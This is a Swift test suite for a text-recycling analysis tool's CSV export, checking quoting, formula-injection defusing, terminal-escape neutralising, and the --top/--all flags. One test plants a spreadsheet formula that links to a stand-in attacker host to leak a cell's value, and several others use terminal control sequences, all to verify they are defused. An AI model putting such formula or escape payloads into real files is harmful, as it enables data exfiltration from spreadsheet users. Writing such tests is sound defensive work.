import Foundation
import Testing

@_spi(Stages) @_spi(CommandLine) @testable import Refrain

/// `--format csv` (RFC 4180, formula-injection safe), `--top N` and `--all` (issue 21, the analyst).
@Suite struct CSVTests {
    /// Parses RFC 4180 CSV into records of fields.
    func parse(_ text: String) -> [[String]] {
        var records: [[String]] = []
        var record: [String] = []
        var field = ""
        var quoted = false
        var characters = Array(text.unicodeScalars)[...]
        while let character = characters.popFirst() {
            if quoted {
                if character == "\"" {
                    if characters.first == "\"" {
                        field.unicodeScalars.append("\"")
                        characters.removeFirst()
                    } else {
                        quoted = false
                    }
                } else {
                    field.unicodeScalars.append(character)
                }
            } else if character == "\"" {
                quoted = true
            } else if character == "," {
                record.append(field)
                field = ""
            } else if character == "\r" && characters.first == "\n" {
                characters.removeFirst()
                record.append(field)
                records.append(record)
                (record, field) = ([], "")
            } else {
                field.unicodeScalars.append(character)
            }
        }
        return records
    }

    @Test func fieldsAreQuotedAndDefused() {
        var writer = CSVWriter()
        writer.record([
            "plain", "a, b", "say \"hi\"", "two\nlines", "=HYPERLINK(\"http://x\")", "+1", "-2", "@SUM(A1)", 42, .number(0.25), .empty,
        ])
        #expect(
            writer.output
                == "plain,\"a, b\",\"say \"\"hi\"\"\",\"two\nlines\",\"'=HYPERLINK(\"\"http://x\"\")\",'+1,'-2,'@SUM(A1),42,0.25,\r\n")
        #expect(
            parse(writer.output) == [
                ["plain", "a, b", "say \"hi\"", "two\nlines", "'=HYPERLINK(\"http://x\")", "'+1", "'-2", "'@SUM(A1)", "42", "0.25", ""]
            ])
    }

    /// Review 70: a cell whose formula follows spaces or a line break (an import may trim
    /// them) is defused too, and control characters are escaped, not written raw, so that
    /// `head` on the file cannot retitle or clear the terminal; tabs and line feeds stay.
    @Test func formulasAfterSpacesAndControlCharactersAreDefused() {
        #expect(CSVWriter.escaped(" =1+1") == "' =1+1")
        #expect(CSVWriter.escaped("\n@SUM(A1)") == "\"'\n@SUM(A1)\"")
        #expect(CSVWriter.escaped("\u{A0}=3+3") == "'\u{A0}=3+3")
        #expect(CSVWriter.escaped("\u{FEFF}=1+1") == "'\u{FEFF}=1+1")  // review 71: JavaScript's trim() takes U+FEFF
        #expect(CSVWriter.escaped(" \u{200B}@x") == "' \u{200B}@x")
        #expect(CSVWriter.escaped("\t-x") == "'\t-x")
        #expect(CSVWriter.escaped("a = b") == "a = b")
        #expect(CSVWriter.escaped("a\u{1B}]0;title\u{07}\u{1B}[2J") == "a\\e]0;title\\a\\e[2J")
        #expect(CSVWriter.escaped("\u{0}nul\u{9B}c1\u{202E}rtl") == "\\x00nul\\x9bc1\\u{202e}rtl")
        #expect(CSVWriter.escaped("two\tcolumns\nlines") == "\"two\tcolumns\nlines\"")
        #expect(CSVWriter.escaped("crlf\r\nend") == "\"crlf\r\nend\"")
        #expect(CSVWriter.escaped("lone\rreturn") == "lone\\rreturn")
    }

    @Test func scanWritesEachTableAndAHostileFamilyCannotBecomeAFormula() throws {
        var documents = OutletCorpus.documents()
        let hostile = "=HYPERLINK(\"http://evil.example/\"&A1, \"click\") is pasted into two stories, word for word, to see what happens."
        for index in [0, 4] {
            documents[index] = Document(
                id: documents[index].id, text: documents[index].text + "\n" + hostile + "\n", source: documents[index].source,
                date: documents[index].date)
        }
        let file = try OutletCorpus.write(documents)
        defer { try? FileManager.default.removeItem(at: file.deletingLastPathComponent()) }
        let report = Pipeline().scan(documents)

        let table = parse(try runRefrain(["scan", file.path, "--format", "csv"]).output)
        #expect(table.count == documents.count + 1)
        #expect(table[0].prefix(6) == ["id", "source", "date", "bytes", "recycledBytes", "recycledShare"])
        #expect(table[1].prefix(3) == ["story-0", "Alpha Wire", "2024-01-03"])
        #expect(table.dropFirst().map { Double($0[5])! } == report.documents.map { (($0.recycledShare * 10_000).rounded()) / 10_000 })

        let families = parse(try runRefrain(["scan", file.path, "--format", "csv", "--table", "families"]).output)
        #expect(families.count == report.families.count + 1)
        #expect(families.dropFirst().map { Int($0[0])! } == report.families.map(\.id))
        let row = try #require(families.first { $0.last?.contains("HYPERLINK") == true })
        #expect(row.last?.hasPrefix("'=HYPERLINK") == true)
        // families --format csv writes the same table.
        #expect(parse(try runRefrain(["families", file.path, "--format", "csv"]).output) == families)

        let groups = parse(try runRefrain(["scan", file.path, "--format", "csv", "--table", "groups", "--group-by", "day"]).output)
        #expect(groups.count == 8 && groups[1] == ["day", "2024-01-01", "1"] + groups[1].dropFirst(3))
        let sources = parse(try runRefrain(["scan", file.path, "--format", "csv", "--table", "sources"]).output)
        #expect(sources.dropFirst().map(\.first) == ["Alpha Wire", "Beta Times", "Gamma Post"])

        #expect(try runRefrain(["scan", file.path, "--table", "families"]).status == 64)
    }

    @Test func topAndAllSetEveryCutList() throws {
        let two = try runRefrain(["scan", samplesFolder, "--top", "2"])
        #expect(two.output.contains("… and 3 more documents"))
        #expect(two.output.contains("… and 8 more families"))
        let all = try runRefrain(["scan", samplesFolder, "--all"])
        #expect(!all.output.contains("more documents") && !all.output.contains("more families"))
        #expect(all.output.split(separator: "\n").filter { $0.hasPrefix("  #") }.count == sampleReport.families.count)

        let families = try runRefrain(["families", samplesFolder, "--top", "1"])
        #expect(families.output.contains(", … 2 more"))
        #expect(!(try runRefrain(["families", samplesFolder, "--all"]).output.contains(" more\n")))

        for arguments in [
            ["scan", samplesFolder, "--top", "0"], ["scan", samplesFolder, "--top", "2", "--all"],
            ["diff", samplesFolder + "/000_96c4b650bc7dc9e5.txt", "--top", "0"],
        ] {
            let refused = try runRefrain(arguments)
            #expect(refused.status == 64, "\(arguments)")
            #expect(refused.error.contains("--top"), "\(arguments)")
        }
    }
}
